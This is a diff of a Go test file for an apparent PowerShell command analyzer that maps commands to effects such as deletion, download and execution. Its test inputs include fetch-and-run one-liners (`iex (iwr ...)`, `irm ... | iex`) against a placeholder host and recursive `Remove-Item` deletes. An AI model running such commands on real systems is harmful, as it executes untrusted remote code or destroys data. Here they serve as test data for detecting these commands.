@@ -15,6 +15,8 @@ func TestPowerShell(t *testing.T) {
 		langtest.Of("named path", `Remove-Item -LiteralPath 'a*' -Recurse:$true`, "rm -r a*"),
 		langtest.Of("what if", `Remove-Item a -Recurse -WhatIf`),
 		langtest.Of("pipeline", `Get-ChildItem -Path C:\a | Remove-Item -Recurse`, `rm -r C:\a/*(glob)`),
+		langtest.Of("what a listing names", `Get-ChildItem -Recurse -Include bin,obj -Directory | Remove-Item -Recurse; gci a -Filter x | ri`, `rm -r ./bin ./obj`, "rm a/x"),
+		langtest.Of("all below", `gci src -Recurse | ri`, "rm src/**(glob)"),
 		langtest.Of("variables", `$d = 'C:\a'; Remove-Item "$d\b" -Recurse; rm ~/c`, `rm -r C:\a\b`, "rm <home>/c"),
 		langtest.Of("code from the network", `iex (iwr http://h/x -UseBasicParsing)`, "curl http://h/x", "run:powershell: powershell <net>"),
 		langtest.Of("piped in", `irm https://h | iex`, "curl https://h", "run:powershell: powershell <net>"),
